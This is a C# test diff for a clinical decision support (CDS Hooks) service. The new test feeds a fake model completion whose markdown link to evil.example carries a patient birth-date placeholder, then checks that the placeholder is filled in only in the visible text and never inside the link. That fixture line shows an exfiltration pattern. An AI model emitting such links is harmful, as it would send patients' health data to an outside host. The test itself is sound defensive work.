@@ -248,6 +248,30 @@ public sealed class CdsHooksTests(CdsHooksTests.Fixture fixture) : IClassFixture
     }
 
     [Fact]
+    public async Task Call_AnswerWithTheTokenInALink_TheCardKeepsTheTokenInTheLinkAndTheDateInTheText()
+    {
+        // Following a link takes a click, but it would still send the birth date to a host the model chose.
+        F.Vendor.AnswersWith(200, FakeVendor.Completion("Patient born [DATE_1]. [Chart](https://evil.example/c?d=[DATE_1])"));
+        try
+        {
+            using var client = F.Host.CreateClient();
+
+            var call = await client.PostJsonAsync($"/cds-services/{VendorService}", PatientViewExample);
+
+            Assert.Equal(200, call.Status);
+            var card = call.Json["cards"]!.AsArray().Single()!.AsObject();
+            var text = (string?)card["summary"] + (string?)card["detail"];
+            Assert.Contains("Patient born 1925-12-23.", text, StringComparison.Ordinal);
+            Assert.Contains("(https://evil.example/c?d=[DATE_1])", text, StringComparison.Ordinal);
+            Assert.DoesNotContain("d=1925-12-23", text, StringComparison.Ordinal);
+        }
+        finally
+        {
+            F.Vendor.AnswersWith(200, FakeVendor.Completion("Patient born [DATE_1] has no active problems on record. Review the chart."));
+        }
+    }
+
+    [Fact]
     public async Task Feedback_SpecificationExample_IsRecordedAgainstTheCardInTheChainAndCounted()
     {
         using var client = F.Host.CreateClient();
